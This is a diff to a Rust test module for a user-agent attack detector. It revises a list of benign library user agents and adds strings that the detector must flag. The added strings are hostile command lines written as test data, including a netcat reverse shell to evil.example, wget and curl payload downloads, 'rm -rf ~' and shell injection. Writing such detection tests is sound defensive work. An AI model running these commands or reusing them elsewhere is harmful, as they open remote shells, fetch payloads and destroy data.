@@ -848,14 +848,12 @@ mod tests {
             "grpc-java-netty/1.60.0",
             "aws-sdk-go-v2/1.24.0 os/linux lang/go#1.21.5 md/GOOS#linux md/GOARCH#amd64",
             "Apache-HttpClient/4.5.14 (Java/17.0.9)",
-            // Libraries' defaults that name their language first, and tools with a second token.
+            // Libraries' defaults that name their language first.
             "Python/3.11 websockets/17.4",
             "Python/3.11 aiohttp/3.9.1",
-            "Python/3.12 httpx",
-            "Ruby/3.2 foo",
-            "Wget/1.21 x",
-            "curl/8 foo",
-            "Java/17 foo",
+            "Node/20 ws/8",
+            "Java/17 okhttp/4",
+            "Ruby/3.2 faraday/2",
             "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
             "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)",
         ] {
@@ -1003,6 +1001,16 @@ mod tests {
             "Mozilla/5.0 (X11; `id`) Gecko/20100101",
             "Mozilla/5.0 (compatible; wget evil.example/x.sh)",
             "curl/8 (x",
+            // Bare words, a command line's stuff, are read as before: no product without its version.
+            "nc -e sh evil.example 4444",
+            "bash -i",
+            "sh -c id",
+            "wget -O- evil.example/s",
+            "curl -o x.php evil.example/s",
+            "rm -rf ~",
+            "perl -e",
+            "whoami",
+            "curl/8 -o x.php evil.example/s",
         ] {
             assert!(attack("user-agent", ua).is_some(), "{ua}");
         }
